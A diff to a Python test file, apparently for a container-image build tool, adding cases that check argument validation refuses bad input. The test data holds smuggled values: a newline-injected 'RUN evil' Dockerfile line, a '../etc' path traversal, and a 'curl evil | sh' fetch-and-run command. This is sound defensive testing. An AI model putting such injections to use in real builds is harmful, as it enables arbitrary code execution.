@@ -318,6 +318,8 @@ def test_a_private_key_among_the_sources_is_refused_made_in_test(tmp_path: Path)
     ([], "error: --image: is needed"),
     (["--image", IMAGE + ":v1"], f"error: --image {IMAGE}:v1: holds a tag or digest"),
     (["--image", "Registry.example.com/Team/Hello"], "is not an image name"),
+    (["--image", "quay.io/team/hello\nRUN evil"], "error: --image 'quay.io/team/hello\\nRUN evil': is not an image"),
+    (["--image", IMAGE, "--next-kernel", "../etc"], "error: --next-kernel '../etc': holds a /"),
     (["--image", IMAGE, "--namespace", "Bad_NS"], "is not a Kubernetes namespace name"),
     (["--image", IMAGE, "--prebuilt", "--flavour-regexp"], "error: --flavour-regexp:"),
     (["--image", IMAGE, "--base-image", "debian:12\nRUN curl evil | sh"], "is not an image reference"),
